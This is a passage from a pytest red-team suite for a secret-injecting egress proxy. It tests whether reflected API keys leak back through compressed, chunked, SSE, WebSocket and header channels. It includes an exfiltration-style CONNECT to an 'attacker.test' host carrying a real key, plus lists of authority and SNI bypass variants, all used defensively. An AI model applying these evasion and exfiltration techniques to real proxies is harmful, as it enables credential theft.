"""Red team: attacks on a real ``sandgate proxy`` from outside, one test per attack.

Each test asserts the sidecar's promise (one authority per request; a real key only in its slot
toward its bound host over verified TLS; no real value back to the agent; fail closed; nothing in
logs), so a test that fails names a break. Attacks that held stay as regression tests.

The hostile upstream (tests/support/hostile.py) writes raw bytes: it reflects the credential it
received in every channel and shape a reflecting or misbehaving server could use. The secrets
here are this module's own (not the session's), so a break in the logs shows up in its test and
does not trip the session-wide leak oracle.
"""

from __future__ import annotations

import base64
import gzip
import json
import os
import secrets
import socket
import ssl
import threading
import time
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
import trustme

from tests.conftest import needs_root
from tests.support.clients import Reply, parse_http, raw_request, read_body, read_head, tunnel
from tests.support.hostile import HostileServer, Request, Wire, ws_accept, ws_frame
from tests.support.listeners import DnsSink
from tests.support.proxyproc import ProxyProcess
from tests.support.upstream import Seen

pytestmark = needs_root

N = secrets.token_hex(4)


@dataclass(frozen=True)
class Sec:
    name: str
    placeholder: str
    real: str
    env: str


API = Sec("rtapi", f"rt-PH-{N}-api", "rtREALapi" + secrets.token_hex(16), "RT_API")
HOST = Sec("rthostile", f"rt-PH-{N}-hostile", "rtREALhostile" + secrets.token_hex(16), "RT_HOSTILE")
# Base64-like, as AWS secret keys are: reserved URL characters inside.
SLASH = Sec("rtslash", f"rt-PH-{N}-slash", "rtREAL/sl+sh/" + secrets.token_hex(12) + "+x/y", "RT_SLASH")
IPSEC = Sec("rtip", f"rt-PH-{N}-ip", "rtREALip" + secrets.token_hex(16), "RT_IP")
QUERY = Sec("rtquery", f"rt-PH-{N}-query", "rtREALquery" + secrets.token_hex(16), "RT_QUERY")
ALL = (API, HOST, SLASH, IPSEC, QUERY)

HOSTILE_NAME, HOSTILE_IP = "hostile.example.net", "127.0.0.9"
HOSTILE2_NAME = "hostile2.example.net"  # same IP, other name: pooling must keep them apart
PLAIN_IP = "127.0.0.10"  # a secret is bound to this IP literal; a plain TCP listener sits on :443

POLICY = f"""
apiVersion: sandgate.dev/v1alpha1
kind: EgressPolicy
metadata: {{name: redteam}}
spec:
  allow:
    - host: api.openai.com
      ports: [80, 443]
    - host: echo.example.com
    - host: {HOSTILE_NAME}
      ports: [80, 443]
    - host: {HOSTILE2_NAME}
    - host: "{PLAIN_IP}"
  secrets:
    - name: {API.name}
      placeholder: {API.placeholder}
      source: {{env: {API.env}}}
      hosts: [api.openai.com]
    - name: {HOST.name}
      placeholder: {HOST.placeholder}
      source: {{env: {HOST.env}}}
      hosts: [{HOSTILE_NAME}]
    - name: {SLASH.name}
      placeholder: {SLASH.placeholder}
      source: {{env: {SLASH.env}}}
      hosts: [{HOSTILE_NAME}]
      headers: [x-api-key]
    - name: {IPSEC.name}
      placeholder: {IPSEC.placeholder}
      source: {{env: {IPSEC.env}}}
      hosts: ["{PLAIN_IP}"]
    - name: {QUERY.name}
      placeholder: {QUERY.placeholder}
      source: {{env: {QUERY.env}}}
      hosts: [{HOSTILE_NAME}]
      headers: [x-query-key]
      query: true
"""


def env() -> dict[str, str]:
    return {s.env: s.real for s in ALL}


def forms(value: str) -> set[str]:
    """What the agent must never see of a real value: the value and the encodings a client decodes
    without being asked (the session oracle's list, tests/support/leaks.py)."""
    from tests.support.leaks import encodings

    return encodings(value)


def leaked(text: str | bytes, sec: Sec = HOST) -> list[str]:
    if isinstance(text, bytes):
        text = text.decode("latin-1")
    return [f[:12] for f in forms(sec.real) if f in text]


# -- the world -------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile_ca(tmp_path_factory: pytest.TempPathFactory) -> tuple[trustme.CA, Path]:
    ca = trustme.CA()
    path = tmp_path_factory.mktemp("rtca") / "ca.pem"
    ca.cert_pem.write_to_path(path)
    return ca, path


@pytest.fixture(scope="module")
def hostile(hostile_ca: tuple[trustme.CA, Path], dns: DnsSink, upstreams: dict[str, Seen]) -> Iterator[HostileServer]:
    ca, _ = hostile_ca
    ctx = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    ca.issue_cert(HOSTILE_NAME, HOSTILE2_NAME).configure_cert(ctx)
    server = HostileServer(HOSTILE_IP, 443, ctx)
    server.start()
    saved = dict(dns.hosts)
    dns.hosts[HOSTILE_NAME] = HOSTILE_IP
    dns.hosts[HOSTILE2_NAME] = HOSTILE_IP
    yield server
    dns.hosts.clear()
    dns.hosts.update(saved)
    server.stop()


@pytest.fixture(scope="module")
def hostile_plain(hostile: HostileServer) -> Iterator[HostileServer]:
    """Port 80 of the hostile host, and a plain listener on the IP literal a secret is bound to."""
    port80 = HostileServer(HOSTILE_IP, 80, None)
    port80.start()
    yield port80
    port80.stop()


@pytest.fixture(scope="module")
def ip_listener() -> Iterator[HostileServer]:
    server = HostileServer(PLAIN_IP, 443, None)
    server.start()
    yield server
    server.stop()


@pytest.fixture(scope="module")
def rt(
    make_proxy: Callable[..., ProxyProcess], hostile: HostileServer, hostile_ca: tuple[trustme.CA, Path]
) -> ProxyProcess:
    return make_proxy(POLICY, "--upstream-ca", str(hostile_ca[1]), env=env())


# -- clients ---------------------------------------------------------------------------------------


def tls_to(proxy: ProxyProcess, host: str, port: int = 443, sni: str | None = "") -> ssl.SSLSocket:
    """CONNECT host:port through the proxy, then TLS (SNI = host unless given; None: no SNI)."""
    return tunnel(proxy.port, f"{host}:{port}", host if sni == "" else sni, proxy.ca)


def tunnel_unverified(proxy: ProxyProcess, authority: str, sni: str | None) -> ssl.SSLSocket:
    """CONNECT, then TLS with exactly this SNI, not checking the leaf's name (the test is about what
    the proxy does with the name, not about the client's own check)."""
    sock = socket.create_connection(("127.0.0.1", proxy.port), timeout=10)
    sock.sendall(f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode())
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = sock.recv(4096)
        if not chunk:
            raise ConnectionResetError(head)
        head += chunk
    assert head.startswith(b"HTTP/1.1 200"), head
    ctx = ssl.create_default_context(cafile=str(proxy.ca))
    ctx.check_hostname = False
    return ctx.wrap_socket(sock, server_hostname=sni)


def ask(proxy: ProxyProcess, host: str, request: bytes, port: int = 443, timeout: float = 10) -> Reply:
    s = tls_to(proxy, host, port)
    return raw_request(s, request, timeout=timeout)


def recv_all(s: socket.socket, timeout: float = 10) -> bytes:
    s.settimeout(timeout)
    buf = b""
    while True:
        try:
            chunk = s.recv(65536)
        except (TimeoutError, ConnectionResetError, ssl.SSLError, OSError):
            break
        if not chunk:
            break
        buf += chunk
    return buf


def get(path: str, *extra: str, host: str = HOSTILE_NAME, auth: str | None = None) -> bytes:
    lines = [f"GET {path} HTTP/1.1", f"Host: {host}"]
    if auth is not None:
        lines.append(f"Authorization: {auth}")
    lines += list(extra)
    lines.append("Connection: close")
    return ("\r\n".join(lines) + "\r\n\r\n").encode()


def bearer(sec: Sec = HOST) -> str:
    return f"Bearer {sec.placeholder}"


def fetch(proxy: ProxyProcess, path: str, *extra: str, sec: Sec = HOST, timeout: float = 10) -> bytes:
    """A swapped GET to the hostile upstream; everything the agent got back, raw."""
    s = tls_to(proxy, HOSTILE_NAME)
    s.sendall(get(path, *extra, auth=bearer(sec)))
    return recv_all(s, timeout)


def dechunk(raw: bytes) -> bytes:
    """The body of one HTTP/1.1 response with chunked framing (what a client reassembles)."""
    _, _, rest = raw.partition(b"\r\n\r\n")
    out = b""
    while rest:
        line, _, rest = rest.partition(b"\r\n")
        try:
            size = int(line.split(b";")[0], 16)
        except ValueError:
            break
        if size == 0:
            break
        out += rest[:size]
        rest = rest[size + 2 :]
    return out


# == 1. One authority per request; the key only over verified TLS to its bound host:port ==========


def test_rt_ip_literal_tls_tunnel_is_never_sent_upstream_in_plaintext(
    rt: ProxyProcess, ip_listener: HostileServer
) -> None:
    """CONNECT to an IP literal the policy allows (and binds a secret to), TLS toward the proxy
    (no SNI: an IP), Bearer placeholder. The upstream leg must be verified TLS too: what sits on
    IP:443 must never read the request, let alone the real key, in cleartext."""
    before = len(ip_listener.raw)
    s = tls_to(rt, PLAIN_IP, sni=None)
    reply = raw_request(s, get("/v1/models", host=PLAIN_IP, auth=bearer(IPSEC)))
    cleartext = b"".join(ip_listener.raw[before:])
    assert IPSEC.real.encode() not in cleartext, "the real key went to IP:443 in cleartext"
    assert b"GET /v1/models" not in cleartext, "an https request was forwarded as plain HTTP"
    assert reply.status != 200


def test_rt_placeholder_as_a_header_name_to_an_unbound_host_is_refused(
    rt: ProxyProcess, hostile: HostileServer
) -> None:
    """`<placeholder>: x` is a valid header (a token); it is in the request all the same."""
    before = len(hostile.requests)
    reply = ask(rt, HOSTILE_NAME, get("/collect", f"{API.placeholder}: 1"))
    got = [r for r in hostile.requests[before:] if API.placeholder.lower() in r.raw_head.decode().lower()]
    assert not got, "the placeholder reached a host its secret is not bound to"
    assert reply.status == 403 and reply.reason == "secret_not_bound"


def test_rt_real_value_as_a_header_name_is_refused(rt: ProxyProcess, hostile: HostileServer) -> None:
    before = len(hostile.requests)
    reply = ask(rt, HOSTILE_NAME, get("/collect", f"{API.real}: 1"))
    got = [r for r in hostile.requests[before:] if API.real.lower() in r.raw_head.decode().lower()]
    assert not got, "a real value left the proxy (to a host it is not even bound to)"
    assert reply.status == 403 and reply.reason == "secret_value_outbound"


# == 5. Nothing leaks into logs: the audit log and stderr never hold a real value ===================


@pytest.fixture(scope="module")
def logproxy(
    make_proxy: Callable[..., ProxyProcess], hostile: HostileServer, hostile_ca: tuple[trustme.CA, Path]
) -> ProxyProcess:
    """A proxy of its own: these attacks write into its logs."""
    return make_proxy(POLICY, "--upstream-ca", str(hostile_ca[1]), env=env())


@pytest.mark.parametrize(
    "where",
    ["path-to-an-allowed-host", "path-to-a-denied-host", "connect-host", "host-header-port"],
)
def test_rt_a_real_value_the_agent_sends_never_lands_in_the_audit_log_or_stderr(
    logproxy: ProxyProcess, where: str
) -> None:
    """An agent that got hold of a real value (the proxy refuses to let it out: B18) writes it into
    the parts of a request the proxy records. The refusal must not copy it into the records."""
    p = logproxy
    marks = {k: len(v) for k, v in p.outputs().items()}
    value = API.real
    if where == "path-to-an-allowed-host":
        reply = ask(p, HOSTILE_NAME, get(f"/v1/{value}"))
        assert reply.reason == "secret_value_outbound"
    elif where == "path-to-a-denied-host":
        s = tunnel(p.port, "denied.example.org:443", "denied.example.org", p.ca)
        reply = raw_request(s, get(f"/v1/{value}", host="denied.example.org"))
        assert reply.status == 403
    elif where == "connect-host":
        s = socket.create_connection(("127.0.0.1", p.port), timeout=10)
        s.sendall(f"CONNECT {value}.attacker.test:443 HTTP/1.1\r\n\r\n".encode())
        s.settimeout(10)
        reply = parse_http(s.recv(4096).decode(errors="replace"))
        s.close()  # a denied tunnel is recorded when it ends
    else:
        s = tls_to(p, HOSTILE_NAME)
        reply = raw_request(s, f"GET / HTTP/1.1\r\nHost: {HOSTILE_NAME}:{value}\r\nConnection: close\r\n\r\n".encode())
        # A port that does not parse (malformed_request) and holds a value: refused for the value,
        # the worse of the two (every refusal of a request holding one says so).
        assert (reply.status, reply.reason) == (403, "secret_value_outbound")
    time.sleep(0.2)
    outputs = {k: v[marks[k] :] for k, v in p.outputs().items()} | {"reply": reply.body}
    assert {k: leaked(v, API) for k, v in outputs.items()} == {k: [] for k in outputs}


# == 3. No real value back to the agent ===========================================================


def _chunks(*parts: bytes) -> bytes:
    return b"".join(b"%x\r\n%s\r\n" % (len(p), p) for p in parts if p) + b"0\r\n\r\n"


def _respond(head: str, body: bytes = b"", *, chunked: bool = False) -> bytes:
    framing = "Transfer-Encoding: chunked" if chunked else f"Content-Length: {len(body)}"
    return f"HTTP/1.1 200 OK\r\n{head}{framing}\r\n\r\n".encode() + (_chunks(body) if chunked else body)


def test_rt_transfer_encoding_gzip_response_is_decoded_or_refused(rt: ProxyProcess, hostile: HostileServer) -> None:
    """`Transfer-Encoding: gzip, chunked`: the compression is a transfer coding, so the proxy's
    Content-Encoding decoder never sees it; the agent gets the gzip bytes and gunzips the key."""

    @hostile.on("/rt/te-gzip")
    async def _(req: Request, w: Wire) -> None:
        body = gzip.compress(f'{{"error": "bad key {req.token}"}}'.encode())
        await w.send(b"HTTP/1.1 401 Unauthorized\r\nTransfer-Encoding: gzip, chunked\r\n\r\n" + _chunks(body))

    raw = fetch(rt, "/rt/te-gzip")
    body = dechunk(raw)
    for candidate in (body, _gunzip(body)):
        assert not leaked(candidate), "the real key reached the agent inside a gzip transfer coding"


def _gunzip(data: bytes) -> bytes:
    try:
        return zlib.decompress(data, 16 + zlib.MAX_WBITS)
    except zlib.error:
        return b""


def test_rt_response_header_names_are_scrubbed(rt: ProxyProcess, hostile: HostileServer) -> None:
    @hostile.on("/rt/header-name")
    async def _(req: Request, w: Wire) -> None:
        await w.send(_respond(f"X-Debug-{req.token}: 1\r\n", b"ok"))

    raw = fetch(rt, "/rt/header-name")
    assert raw.startswith(b"HTTP/1.1")
    assert not leaked(raw), "a response header name carried the real key to the agent"


@pytest.mark.parametrize("sep", [b"\n\r", b"\r\n\r"], ids=["lf-cr", "crlf-cr"])
def test_rt_sse_value_split_across_events_with_cr_line_ends_is_refused(
    rt: ProxyProcess, hostile: HostileServer, sep: bytes
) -> None:
    """SSE lines end in CRLF, LF or CR, and an empty line ends an event: "\\n\\r" is an event
    boundary to every spec-compliant client (the openai SDK's decoder here). Each half of the key
    in its own event must be caught as a value split across events."""
    path = f"/rt/sse-{sep.hex()}"

    @hostile.on(path)
    async def _(req: Request, w: Wire) -> None:
        half = len(req.token) // 2
        events = b"data: " + req.token[:half].encode() + sep + b"data: " + req.token[half:].encode() + b"\n\n"
        await w.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nTransfer-Encoding: chunked\r\n\r\n")
        await w.send(_chunks(events + b"data: [DONE]\n\n"))

    raw = fetch(rt, path)
    stream = dechunk(raw)
    from openai._streaming import SSEDecoder

    datas = [e.data for e in SSEDecoder().iter_bytes(iter([stream]))]
    assert not leaked("".join(datas)), f"the client stitched the key back together from {len(datas)} events"


# -- WebSocket ------------------------------------------------------------------------------------

WS_KEY = base64.b64encode(b"sandgate-redteam").decode()


def parse_frames(buf: bytes) -> tuple[list[tuple[bool, int, bytes]], bytes]:
    """(fin, opcode, unmasked payload) of each complete frame, and what is left."""
    frames = []
    while len(buf) >= 2:
        fin, opcode = bool(buf[0] & 0x80), buf[0] & 0x0F
        masked, n, at = bool(buf[1] & 0x80), buf[1] & 0x7F, 2
        if n == 126:
            if len(buf) < 4:
                break
            n, at = int.from_bytes(buf[2:4], "big"), 4
        elif n == 127:
            if len(buf) < 10:
                break
            n, at = int.from_bytes(buf[2:10], "big"), 10
        mask = buf[at : at + 4] if masked else b""
        at += 4 if masked else 0
        if len(buf) < at + n:
            break
        payload = buf[at : at + n]
        if masked:
            payload = bytes(b ^ mask[i % 4] for i, b in enumerate(payload))
        frames.append((fin, opcode, payload))
        buf = buf[at + n :]
    return frames, buf


def ws_handshake(req: Request, extra: str = "") -> bytes:
    return (
        "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        f"Sec-WebSocket-Accept: {ws_accept(req.header('sec-websocket-key'))}\r\n{extra}\r\n"
    ).encode()


def ws_open(proxy: ProxyProcess, path: str, sec: Sec = HOST) -> tuple[ssl.SSLSocket, bytes]:
    """A WebSocket through the proxy to the hostile upstream; (socket, bytes after the 101 head)."""
    s = tls_to(proxy, HOSTILE_NAME)
    s.sendall(
        f"GET {path} HTTP/1.1\r\nHost: {HOSTILE_NAME}\r\nAuthorization: {bearer(sec)}\r\nUpgrade: websocket\r\n"
        f"Connection: Upgrade\r\nSec-WebSocket-Key: {WS_KEY}\r\nSec-WebSocket-Version: 13\r\n"
        "Sec-WebSocket-Extensions: permessage-deflate\r\n\r\n".encode()
    )
    s.settimeout(10)
    buf = b""
    while b"\r\n\r\n" not in buf:
        chunk = s.recv(65536)
        if not chunk:
            break
        buf += chunk
    return s, buf


def ws_agent_reads(proxy: ProxyProcess, path: str) -> tuple[bytes, list[tuple[bool, int, bytes]]]:
    """Open, read every frame until the socket ends: (the 101 head, frames)."""
    s, buf = ws_open(proxy, path)
    head, _, rest = buf.partition(b"\r\n\r\n")
    rest += recv_all(s, 5)
    frames, _ = parse_frames(rest)
    return head, frames


async def _upstream_frames(w: Wire, count: int) -> list[tuple[bool, int, bytes]]:
    buf, got = b"", []
    while len(got) < count:
        try:
            data = await w.reader.read(65536)
        except ConnectionError:
            break
        if not data:
            break
        buf += data
        frames, buf = parse_frames(buf)
        got += frames
    return got


def test_rt_websocket_value_split_across_two_pings_is_refused(rt: ProxyProcess, hostile: HostileServer) -> None:
    """Control frames are scrubbed one by one: half the key in each of two pings passes both."""

    @hostile.on("/rt/ws-pings")
    async def _(req: Request, w: Wire) -> None:
        half = len(req.token) // 2
        await w.send(ws_handshake(req))
        await w.send(ws_frame(0x9, req.token[:half].encode()), pause=0.05)
        await w.send(ws_frame(0x9, req.token[half:].encode()), pause=0.05)
        await w.send(ws_frame(0x8, b"\x03\xe8"))
        w.keep = False

    head, frames = ws_agent_reads(rt, "/rt/ws-pings")
    assert head.startswith(b"HTTP/1.1 101")
    pings = b"".join(p for _, op, p in frames if op == 0x9)
    assert not leaked(pings), "the agent reassembled the key from two ping payloads"


@pytest.mark.parametrize(
    "shape", ["close-reason", "two-messages", "fragments", "frames-with-the-101", "key-in-101-head"]
)
def test_rt_websocket_values_in_messages_and_close_reasons_never_reach_the_agent(
    rt: ProxyProcess, hostile: HostileServer, shape: str
) -> None:
    path = f"/rt/ws-{shape}"

    @hostile.on(path)
    async def _(req: Request, w: Wire) -> None:
        t = req.token.encode()
        half = len(t) // 2
        if shape == "key-in-101-head":
            await w.send(
                ws_handshake(req, f"X-Key: {req.token}\r\nSet-Cookie: k={req.token}\r\n") + ws_frame(0x8, b"\x03\xe8")
            )
        elif shape == "frames-with-the-101":
            await w.send(ws_handshake(req) + ws_frame(0x1, b"k=" + t) + ws_frame(0x8, b"\x03\xe8" + t[:100]))
        else:
            await w.send(ws_handshake(req))
            if shape == "close-reason":
                await w.send(ws_frame(0x8, b"\x0f\xa0bad key " + t))
            elif shape == "two-messages":
                await w.send(ws_frame(0x1, b"k=" + t[:half]), pause=0.05)
                await w.send(ws_frame(0x1, t[half:]), pause=0.05)
            else:
                await w.send(ws_frame(0x1, b"k=" + t[:half], fin=False), pause=0.05)
                await w.send(ws_frame(0x0, t[half:] + b" end"), pause=0.05)
            await w.send(ws_frame(0x8, b"\x03\xe8"))
        w.keep = False

    head, frames = ws_agent_reads(rt, path)
    assert head.startswith(b"HTTP/1.1 101")
    assert not leaked(head + b"".join(p for _, _, p in frames))


def test_rt_websocket_extension_the_agent_was_not_offered_is_refused(rt: ProxyProcess, hostile: HostileServer) -> None:
    """The proxy strips permessage-deflate from the offer; an upstream that compresses anyway would
    hide values from the scrubber."""

    @hostile.on("/rt/ws-deflate")
    async def _(req: Request, w: Wire) -> None:
        await w.send(ws_handshake(req, "Sec-WebSocket-Extensions: permessage-deflate\r\n"))
        c = zlib.compressobj(wbits=-15)
        data = c.compress(req.token.encode()) + c.flush(zlib.Z_SYNC_FLUSH)
        await w.send(bytes([0xC1, len(data[:-4])]) + data[:-4], pause=0.1)
        w.keep = False

    head, _ = ws_agent_reads(rt, "/rt/ws-deflate")
    assert head.startswith(b"HTTP/1.1 502")
    offered = [r for r in hostile.requests if r.path == "/rt/ws-deflate"]
    assert offered and not offered[-1].header("sec-websocket-extensions")


@pytest.mark.parametrize("split", ["fragments", "messages"])
def test_rt_websocket_real_value_split_across_frames_never_reaches_the_upstream(
    rt: ProxyProcess, hostile: HostileServer, split: str
) -> None:
    """Agent -> upstream: a real value (any secret's) split over two frames or two messages."""
    path = f"/rt/ws-out-{split}"
    received: list[bytes] = []
    done = threading.Event()

    @hostile.on(path)
    async def _(req: Request, w: Wire) -> None:
        await w.send(ws_handshake(req))
        frames = await _upstream_frames(w, 3)
        received.extend(p for _, _, p in frames)
        done.set()
        w.keep = False

    s, _ = ws_open(rt, path)
    value = API.real.encode()
    mask = os.urandom(4)
    first_op, second_op = (0x1, 0x0) if split == "fragments" else (0x1, 0x1)
    s.sendall(ws_frame(first_op, b"x=" + value[:20], fin=split == "messages", mask=mask))
    time.sleep(0.1)
    s.sendall(ws_frame(second_op, value[20:], mask=mask))
    time.sleep(0.1)
    s.sendall(ws_frame(0x8, b"\x03\xe8", mask=mask))
    recv_all(s, 5)
    done.wait(5)
    assert API.real.encode() not in b"".join(received), "a real value crossed to the upstream in pieces"


# -- responses: every channel, every shape ---------------------------------------------------------


def _br(data: bytes) -> bytes:
    import brotli

    return bytes(brotli.compress(data))


def _zstd_frames(data: bytes) -> bytes:
    from backports import zstd

    half = len(data) // 2
    return bytes(zstd.compress(data[:half]) + zstd.compress(data[half:]))  # two frames, the value across them


def _deflate_raw(data: bytes) -> bytes:
    c = zlib.compressobj(wbits=-15)
    return c.compress(data) + c.flush()


@pytest.mark.parametrize(
    ("coding", "encode", "framing"),
    [
        ("gzip", gzip.compress, "one-byte-chunks"),
        ("gzip", lambda d: gzip.compress(d[:20]) + gzip.compress(d[20:]), "content-length"),  # two members
        ("deflate", _deflate_raw, "one-byte-chunks"),
        ("deflate", zlib.compress, "content-length"),
        ("br", _br, "one-byte-chunks"),
        ("zstd", _zstd_frames, "one-byte-chunks"),
        ("x-gzip", gzip.compress, "close-delimited"),
    ],
    ids=["gzip-1b", "gzip-members", "deflate-raw-1b", "deflate-zlib", "br-1b", "zstd-frames-1b", "x-gzip-close"],
)
def test_rt_compressed_reflections_with_odd_framing_arrive_scrubbed(
    rt: ProxyProcess, hostile: HostileServer, coding: str, encode: Callable[[bytes], bytes], framing: str
) -> None:
    path = f"/rt/enc-{coding}-{framing}-{len(hostile.scripts)}"

    @hostile.on(path)
    async def _(req: Request, w: Wire) -> None:
        body = encode(f'{{"error": "Incorrect API key provided: {req.token}"}}'.encode())
        head = f"HTTP/1.1 401 Unauthorized\r\nContent-Encoding: {coding}\r\nContent-Type: application/json\r\n"
        if framing == "one-byte-chunks":
            await w.send(head.encode() + b"Transfer-Encoding: chunked\r\n\r\n")
            for i in range(len(body)):
                await w.send(b"1\r\n" + body[i : i + 1] + b"\r\n")
            await w.send(b"0\r\n\r\n")
        elif framing == "content-length":
            await w.send(head.encode() + b"Content-Length: %d\r\n\r\n" % len(body) + body)
        else:
            await w.send(head.encode() + b"Connection: close\r\n\r\n" + body)
            w.keep = False

    raw = fetch(rt, path)
    assert raw.startswith(b"HTTP/1.1 401")
    body = dechunk(raw) if b"chunked" in raw.split(b"\r\n\r\n")[0].lower() else raw.partition(b"\r\n\r\n")[2]
    assert not leaked(raw) and HOST.placeholder.encode() in body


@pytest.mark.parametrize(
    "channel",
    ["set-cookie", "103-early-hints", "102-processing", "reason-phrase", "trailer", "www-authenticate-b64",
     "location-percent", "json-escaped"],
)  # fmt: skip
def test_rt_reflections_in_every_response_channel_never_reach_the_agent(
    rt: ProxyProcess, hostile: HostileServer, channel: str
) -> None:
    path = f"/rt/chan-{channel}"

    @hostile.on(path)
    async def _(req: Request, w: Wire) -> None:
        t = req.token
        if channel == "set-cookie":
            await w.send(_respond(f"Set-Cookie: session={t}; Path=/; HttpOnly\r\n", b"ok"))
        elif channel == "103-early-hints":
            await w.send(f"HTTP/1.1 103 Early Hints\r\nLink: </k/{t}>; rel=preload\r\n\r\n".encode(), pause=0.05)
            await w.send(_respond("", b"ok"))
        elif channel == "102-processing":
            await w.send(f"HTTP/1.1 102 Processing\r\nX-Key: {t}\r\n\r\n".encode(), pause=0.05)
            await w.send(_respond("", b"ok"))
        elif channel == "reason-phrase":
            await w.send(f"HTTP/1.1 401 Bad key {t}\r\nContent-Length: 2\r\n\r\nok".encode())
        elif channel == "trailer":
            await w.send(b"HTTP/1.1 200 OK\r\nTrailer: X-Key\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nok\r\n")
            await w.send(f"0\r\nX-Key: {t}\r\n\r\n".encode())
        elif channel == "www-authenticate-b64":
            b64 = base64.b64encode(f"user:{t}".encode()).decode()
            await w.send(_respond(f'WWW-Authenticate: Basic realm="{b64}"\r\n', b"ok"))
        elif channel == "location-percent":
            from urllib.parse import quote

            await w.send(_respond(f"Location: https://x.invalid/?k={quote(t, safe='')}\r\n", b"ok"))
        else:
            escaped = "".join(f"\\u{ord(c):04x}" if i % 2 else c for i, c in enumerate(t))
            await w.send(_respond("Content-Type: application/json\r\n", f'{{"key": "{escaped}"}}'.encode()))

    raw = fetch(rt, path)
    assert raw.startswith(b"HTTP/1.1")
    assert not leaked(raw)
    if channel == "json-escaped":
        assert json.loads(raw.partition(b"\r\n\r\n")[2] or b'""') == "" or b"secret_value_inbound" in raw


def test_rt_json_escaped_value_split_across_chunks_does_not_reach_the_agent(
    rt: ProxyProcess, hostile: HostileServer
) -> None:
    """Raw values split across chunks are held back until the next chunk decides; values in JSON
    escapes are only checked on what was already sent. The upstream sends the escaped value but its
    last character, waits, then the rest: the agent must not read the first part meanwhile."""
    got_first = threading.Event()

    @hostile.on("/rt/escaped-split")
    async def _(req: Request, w: Wire) -> None:
        escaped = "".join(f"\\u{ord(c):04x}" for c in req.token)
        cut = escaped.rindex("\\u")
        await w.send(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n")
        await w.send(_chunks(f'{{"key": "{escaped[:cut]}'.encode())[:-5])
        import asyncio

        for _ in range(50):
            if got_first.is_set():
                break
            await asyncio.sleep(0.05)
        await w.send(_chunks(f'{escaped[cut:]}"}}'.encode()))

    s = tls_to(rt, HOSTILE_NAME)
    s.sendall(get("/rt/escaped-split", auth=bearer()))
    s.settimeout(3)
    seen = b""
    try:
        while b"\\u" not in seen.partition(b"\r\n\r\n")[2]:
            chunk = s.recv(65536)
            if not chunk:
                break
            seen += chunk
    except TimeoutError:
        pass
    got_first.set()
    seen += recv_all(s, 5)
    import re

    body = dechunk(seen).decode("latin-1")
    read = "".join(chr(int(h, 16)) for h in re.findall(r"\\u([0-9a-f]{4})", body))
    known = next(
        (i for i, (a, b) in enumerate(zip(read, HOST.real, strict=False)) if a != b), min(len(read), len(HOST.real))
    )
    assert known < 8, f"the agent read {read!r} of the key {HOST.real!r}"


# == 1. One authority: CONNECT, SNI, Host, absolute-form ==========================================


def _connect_raw(proxy: ProxyProcess, data: bytes) -> bytes:
    with socket.create_connection(("127.0.0.1", proxy.port), timeout=10) as s:
        s.sendall(data)
        s.settimeout(5)
        try:
            return s.recv(4096)
        except (TimeoutError, ConnectionResetError):
            return b""


@pytest.mark.parametrize(
    "authority",
    [
        "api.openai.com", "api.openai.com:0", "api.openai.com:65536", "api.openai.com:0443", "api.openai.com:+443",
        "user@api.openai.com:443", "api.openai.com.:443.", "api.openai.com:443:443", "[::1]:443", "[::ffff:127.0.0.2]:443",
        "127.1:443", "0x7f000002:443", "api%2eopenai.com:443", "api.openai.com%00.attacker.test:443",
        "api.openai.com\t:443", "xn--pi-7ka.openai.com:443", "xn--80ak6aa92e.com:443", "*.example.com:443",
        "api.openai.com/x:443", "https://api.openai.com:443",
    ],
)  # fmt: skip
def test_rt_connect_authority_variants_never_open_a_tunnel_to_a_bound_host(
    rt: ProxyProcess, hostile: HostileServer, authority: str
) -> None:
    """Malformed, numeric, Unicode-mapped or look-alike CONNECT authorities: no 200 for anything
    but the canonical form of an allowed host:port."""
    answer = _connect_raw(rt, f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode())
    if answer.startswith(b"HTTP/1.1 200"):
        # Completed only to answer inside TLS (a denied destination): the request must be refused there.
        host = authority.rsplit(":", 1)[0].strip("[]")
        s = tunnel(rt.port, authority, None if ":" in host or host[0].isdigit() else host, rt.ca)
        reply = raw_request(s, get("/", host=host, auth=bearer(API)))
        assert reply.status in (400, 403), authority
    else:
        assert answer.startswith(b"HTTP/1.1 4") or answer == b"", answer[:80]


@pytest.mark.parametrize(
    ("sni", "host", "expect"),
    [
        ("API.OPENAI.COM", "api.openai.com", 200),
        ("api.openai.com.", "api.openai.com", 200),
        ("api.openai.com", "API.OpenAI.com.", 200),
        ("127.0.0.2", "api.openai.com", 403),  # Python's ssl sends no SNI for an IP: "no SNI to a name"
        ("echo.example.com", "api.openai.com", 403),
        ("xn--api-openai-com.example", "api.openai.com", 400),
        (None, "api.openai.com", 403),
    ],
    ids=["upper-sni", "dot-sni", "mixed-host", "ip-sni", "other-sni", "bogus-a-label", "no-sni"],
)
def test_rt_sni_and_host_forms_decide_one_authority(
    rt: ProxyProcess, upstreams: dict[str, Seen], sni: str | None, host: str, expect: int
) -> None:
    before = len(upstreams["api"].requests)
    try:
        s = tunnel_unverified(rt, "api.openai.com:443", sni)
    except (ssl.SSLError, ConnectionResetError):
        assert expect != 200  # refused in the handshake (a name we never answer for)
        return
    reply = raw_request(s, get("/v1/sni", host=host, auth=bearer(API)))
    assert reply.status == expect
    swapped = [r for r in upstreams["api"].requests[before:] if API.real in json.dumps(r)]
    assert bool(swapped) == (expect == 200)


@pytest.mark.parametrize(
    "target",
    [
        "https://echo.example.com/v1/x", "http://api.openai.com/v1/x", "https://api.openai.com:8443/v1/x",
        "https://api.openai.com@echo.example.com/v1/x", "https://echo.example.com#@api.openai.com/",
        "https://api.openai.com\\@echo.example.com/", "https:/api.openai.com/v1/x", "ftp://api.openai.com/",
        "https://[::1]/", "https://api.openai.com:443@/", "//echo.example.com/v1/x",
    ],
)  # fmt: skip
def test_rt_absolute_form_targets_must_name_the_tunnel_authority(
    rt: ProxyProcess, upstreams: dict[str, Seen], target: str
) -> None:
    before = {k: len(upstreams[k].requests) for k in ("api", "echo")}
